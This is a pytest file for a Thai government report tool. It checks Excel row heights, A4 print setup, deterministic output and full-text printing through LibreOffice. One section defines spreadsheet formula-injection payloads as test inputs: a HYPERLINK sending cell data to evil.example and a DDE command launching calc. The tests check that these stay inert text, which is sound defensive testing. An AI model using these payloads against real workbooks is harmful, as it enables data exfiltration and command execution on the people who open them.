"""The Excel file as it prints: rows tall enough for their text, A4 landscape one page wide.

Built in process from the sample's params and read back with openpyxl, as a file.
"""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.cell.cell import MergedCell

from ita_report.params import load_params
from ita_report.report import MeasuresDocument, build_document
from ita_report.report.office import MAX_ROW_PT, office_font
from ita_report.report.xlsx import (
    GAPS_SHEET,
    HEADER_CHARS,
    MEASURE_WIDTHS,
    MEASURES_SHEET,
    text_lines,
    xlsx_bytes,
)

ROOT = Path(__file__).resolve().parent.parent
PARAMS = ROOT / "params" / "chaemae-2566.yaml"


def document(**settings: Any) -> MeasuresDocument:
    return build_document(load_params(PARAMS, document=settings))


def workbook(doc: MeasuresDocument) -> Any:
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes(doc)))


@pytest.mark.parametrize("font", ["TH Sarabun New", "Sarabun"])
def test_every_row_is_as_tall_as_its_longest_cell(font: str) -> None:
    sheet = workbook(document(font=font))[MEASURES_SHEET]
    measured = office_font(font)
    heights = []
    for number, row in enumerate(sheet.iter_rows(min_row=1, values_only=True), start=1):
        if all(value is None for value in row):
            break  # the notes below the table
        height = sheet.row_dimensions[number].height
        assert height is not None, f"row {number} has no height: Excel would print one line"
        lines = max(text_lines(v, w, measured) for v, w in zip(row, MEASURE_WIDTHS, strict=False))
        # At least one line of the table's size for each line of its tallest cell.
        assert height >= min(MAX_ROW_PT, lines * measured.table_pt), (number, lines, height)
        heights.append(height)
    assert len(heights) > 3 and max(heights) > 3 * min(heights)  # rows differ as their text does
    assert sheet.cell(row=2, column=1).font.name == font


def test_a_long_cell_wraps_to_more_lines_than_a_short_one() -> None:
    font = office_font("Sarabun")
    assert text_lines("ก", 10, font) == 1
    assert text_lines("ก" * 200, 10, font) > 5
    assert text_lines("บรรทัดหนึ่ง\nบรรทัดสอง", 40, font) == 2
    # Tone and vowel marks above and below a letter take no width.
    assert text_lines("ที่" * 30, 10, font) == text_lines("ท" * 30, 10, font)


@pytest.mark.parametrize("name", [MEASURES_SHEET, GAPS_SHEET])
def test_each_sheet_prints_a4_landscape_one_page_wide(name: str) -> None:
    sheet = workbook(document(letterhead="สำนักปลัดเทศบาล"))[name]
    setup = sheet.page_setup
    assert setup.orientation == "landscape" and int(setup.paperSize) == 9  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    # One page wide, as many pages down as the rows need.
    assert int(setup.fitToWidth) == 1 and int(setup.fitToHeight) == 0
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.oddHeader.left.text == "สำนักปลัดเทศบาล"
    assert sheet.oddFooter.center.text == "&P"


def test_the_same_inputs_and_date_give_the_same_bytes() -> None:
    first = xlsx_bytes(document(date="2567-10-01"))
    assert xlsx_bytes(document(date="2567-10-01")) == first
    core = zipfile.ZipFile(io.BytesIO(first)).read("docProps/core.xml").decode()
    assert "2024-10-01T00:00:00Z" in core
    assert xlsx_bytes(document(date="2567-10-02")) != first


def test_a_long_letterhead_is_cut_to_what_an_excel_page_header_holds() -> None:
    sheet = workbook(document(letterhead="ก" * 300))[MEASURES_SHEET]
    left, centre = sheet.oddHeader.left.text, sheet.oddHeader.center.text
    assert left.endswith("…") and len(left) + len(centre) <= HEADER_CHARS


# -- issue 21 case 6: an officer's text is never a live formula -------------------------------
EVIL = {
    "measure_th": '=HYPERLINK("http://evil.example/steal?d="&B2,"คลิก")',
    "steps_th": ["=1+1", "+SUM(1,2)", "@cmd", "-ขั้นตอนที่มีขีดนำ"],
    "unit_th": "=cmd|'/C calc'!A0",
}


def evil_params() -> Any:
    import yaml

    overrides = yaml.safe_load(PARAMS.read_text(encoding="utf-8"))["theme_overrides"]
    overrides["work_process"]["below_target"].update(EVIL)
    return load_params(PARAMS, theme_overrides=overrides)


def assert_text_only(data: bytes, texts: list[str]) -> None:
    """No cell of the saved workbook is a formula, and each text shows as written."""
    from ita_report.thai import to_arabic_digits

    book = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas would show
    shown = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    shown.append(to_arabic_digits(cell.value))  # the report's Thai digits
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
    for text in texts:
        assert any(text in value for value in shown), text
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_formula_like_text_in_the_measures_workbook_stays_text() -> None:
    doc = build_document(evil_params())
    assert_text_only(xlsx_bytes(doc), [EVIL["measure_th"], EVIL["unit_th"], *EVIL["steps_th"]])


def test_formula_like_text_in_the_progress_command_stays_text(tmp_path: Path) -> None:
    from ita_report.officer.progress import progress_bytes

    doc = build_document(evil_params())
    assert_text_only(progress_bytes(doc), [EVIL["measure_th"], "=1+1"])


# -- no row cuts its text (issue 24 part 9) ----------------------------------------------------
def implementation_workbook_bytes() -> bytes:
    from ita_report.implementation.document import build_implementation
    from ita_report.implementation.office import xlsx_bytes as implementation_xlsx

    return implementation_xlsx(
        build_implementation(ROOT / "params" / "chaemae-2566-implementation.yaml"))


def both_workbooks() -> dict[str, bytes]:
    """The sample's measures workbook (measures, items below target, progress) and its
    implementation workbook (summary, steps, scores followed), as written."""
    return {"measures": xlsx_bytes(document()), "implementation": implementation_workbook_bytes()}


def wrapped_cells(sheet: Any) -> list[tuple[Any, float]]:
    """(cell, its column's width) of every wrapped text cell of a visible column."""
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell, MergedCell):
                continue  # the rest of a cell merged down: its text is the first row's
            dimension = sheet.column_dimensions[cell.column_letter]
            if (isinstance(cell.value, str) and cell.alignment.wrap_text
                    and not dimension.hidden):
                found.append((cell, dimension.width))
    return found


@pytest.fixture(scope="module")
def weak_agency(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The measures workbook of a weak synthetic agency: a theme citing some thirty items, a
    cell taller than the tallest row Excel allows (409.5 pt)."""
    import json

    import pandas as pd

    from ita_report.synth import synthesize

    folder = tmp_path_factory.mktemp("weak")
    synthesize(8, [2569], 7, folder)
    agency = pd.read_csv(folder / "agencies.csv", dtype=str).set_index("org_id").loc["syn00003"]
    params = folder / "syn00003.yaml"
    params.write_text(json.dumps({
        "org_id": "syn00003", "org_name": agency.org_name, "short_name": agency.short_name,
        "org_type": agency.org_type, "province": agency.province, "fiscal_year": 2569,
        "scores_file": str(folder / "scores-2569.csv"),
    }, ensure_ascii=False), encoding="utf-8")
    return xlsx_bytes(build_document(load_params(params)))


def test_a_row_taller_than_excel_allows_spans_merged_rows(weak_agency: bytes) -> None:
    from ita_report.report.office import GLYPH_EM, cell_lines

    sheet = openpyxl.load_workbook(io.BytesIO(weak_agency))[MEASURES_SHEET]
    spans = {r.min_row: r for r in sheet.merged_cells.ranges}
    assert spans, "no row of this agency needed more than one Excel row"
    for cell, width in wrapped_cells(sheet):
        lines = cell_lines(cell.value, width, cell.font.name, float(cell.font.sz))
        needed = lines * float(cell.font.sz) * GLYPH_EM[cell.font.name][1]
        merged = spans.get(cell.row)
        rows = range(cell.row, (merged.max_row if merged else cell.row) + 1)
        heights = [sheet.row_dimensions[r].height or 0 for r in rows]
        assert all(h <= MAX_ROW_PT for h in heights)
        assert sum(heights) >= needed, (cell.coordinate, lines, heights)


@pytest.mark.parametrize("which", ["measures", "implementation"])
def test_every_wrapped_row_of_every_sheet_is_as_tall_as_its_text(which: str) -> None:
    """Excel never grows a row: a row given no height, or too little, shows its first line
    or two and cuts the rest (the progress sheet took 24 pt a line for Sarabun's 26, and each
    text for one line; the implementation workbook gave its rows no height)."""
    from ita_report.report.office import GLYPH_EM, cell_lines

    book = openpyxl.load_workbook(io.BytesIO(both_workbooks()[which]))
    checked = 0
    for sheet in book.worksheets:
        for cell, width in wrapped_cells(sheet):
            font = cell.font.name
            lines = cell_lines(cell.value, width, font, float(cell.font.sz))
            needed = min(MAX_ROW_PT, lines * float(cell.font.sz) * GLYPH_EM[font][1])
            height = sheet.row_dimensions[cell.row].height
            where = f"{sheet.title}!{cell.coordinate} ({lines} lines)"
            assert height is not None, f"{where}: no height, Excel shows one line"
            assert height >= needed, f"{where}: {height} pt for {needed:.1f} pt of text"
            checked += 1
    assert checked > 30


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def letters(text: str) -> str:
    """The consonants and digits of ``text``: what text extraction from LibreOffice's PDF
    keeps in order (it splits the vowel ำ, reorders tone marks)."""
    text = unicodedata.normalize("NFKC", text)
    return "".join(ch for ch in text if unicodedata.category(ch) in ("Lo", "Lu", "Ll", "Nd")
                   and ch not in "\u0e32\u0e33")


def one_column_at_a_time(data: bytes) -> tuple[bytes, list[tuple[str, str]]]:
    """A workbook of one sheet per (sheet, column) of ``data``, each holding only that column's
    texts, its rows and widths as they were; and (sheet name, text) of the longest cell of each.

    LibreOffice prints a cut cell's first lines only; with one column on a page, the text a
    PDF holds is that column's, top to bottom, so a cut shows as a cell's text missing."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    longest: list[tuple[str, str]] = []
    for sheet in list(book.worksheets):
        columns: dict[int, list[Any]] = {}
        for cell, _width in wrapped_cells(sheet):
            columns.setdefault(cell.column, []).append(cell)
        for column, cells in columns.items():
            copy = book.copy_worksheet(sheet)
            copy.title = f"{sheet.title[:24]} {column}"
            for row in copy.iter_rows():
                for cell in row:
                    if cell.column != column and not isinstance(cell, MergedCell):
                        cell.value = None
            copy.oddHeader.center.text = copy.oddHeader.left.text = ""
            copy.oddFooter.center.text = ""
            longest.append((copy.title, max((c.value for c in cells), key=len)))
        book.remove(sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue(), longest


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) missing")
@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) missing")
@pytest.mark.parametrize("which", ["measures", "implementation", "weak agency"])
def test_libreoffice_prints_the_whole_text_of_the_longest_cells(
    which: str, tmp_path: Path, weak_agency: bytes
) -> None:
    import fontpkg_sarabun

    workbook = weak_agency if which == "weak agency" else both_workbooks()[which]
    data, longest = one_column_at_a_time(workbook)
    (tmp_path / "columns.xlsx").write_bytes(data)
    # The workbook's font (Sarabun, the default) as on an officer's machine that has it.
    fonts = Path(fontpkg_sarabun.ROOT) / "files"
    conf = tmp_path / "fonts.conf"
    conf.write_text(
        '<?xml version="1.0"?><!DOCTYPE fontconfig SYSTEM "fonts.dtd"><fontconfig>'
        '<include ignore_missing="yes">/etc/fonts/fonts.conf</include>'
        f"<dir>{fonts}</dir><cachedir>{tmp_path / 'fc'}</cachedir></fontconfig>",
        encoding="utf-8")
    done = subprocess.run(
        [str(SOFFICE), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
         "--convert-to", "pdf", "--outdir", str(tmp_path), str(tmp_path / "columns.xlsx")],
        check=True, capture_output=True, text=True, timeout=300,
        env={**os.environ, "FONTCONFIG_FILE": str(conf)})
    if not (tmp_path / "columns.pdf").exists():
        pytest.skip(f"LibreOffice cannot open .xlsx here (Calc missing?): {done.stderr[-200:]}")
    printed = subprocess.run(["pdftotext", str(tmp_path / "columns.pdf"), "-"],
                             capture_output=True, text=True, check=True).stdout
    assert "Sarabun" in subprocess.run(["pdffonts", str(tmp_path / "columns.pdf")],
                                       capture_output=True, text=True).stdout
    text = letters(printed)
    cut = [(name, value[-30:]) for name, value in longest if letters(value) not in text]
    assert len(longest) > 10
    assert cut == [], cut


def test_what_an_officer_wrote_in_the_progress_sheet_shows_whole_when_written_again(
    tmp_path: Path,
) -> None:
    """The progress sheet an officer filled is carried over when the workbook is written
    again; its rows grow to the officer's text, not the steps' alone."""
    from ita_report.officer.progress import COLUMNS, PROGRESS_SHEET
    from ita_report.report.office import GLYPH_EM, cell_lines

    doc = document()
    path = tmp_path / "chaemae.xlsx"
    path.write_bytes(xlsx_bytes(doc))
    book = openpyxl.load_workbook(path)
    sheet = book[PROGRESS_SHEET]
    result = COLUMNS.index("ผลการดำเนินงาน") + 1
    written = "จัดประชุมชี้แจงผู้บริหารและเจ้าหน้าที่ทุกกองเรื่องการเปิดเผยข้อมูลสาธารณะ " * 6
    sheet.cell(row=2, column=result, value=written)
    book.save(path)

    again = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(doc, keep_from=path)))[PROGRESS_SHEET]
    cell = again.cell(row=2, column=result)
    assert cell.value == written
    width = again.column_dimensions[cell.column_letter].width
    lines = cell_lines(written, width, cell.font.name, float(cell.font.sz))
    assert lines > 5
    height = again.row_dimensions[2].height
    assert height is not None
    assert height >= lines * float(cell.font.sz) * GLYPH_EM[cell.font.name][1]
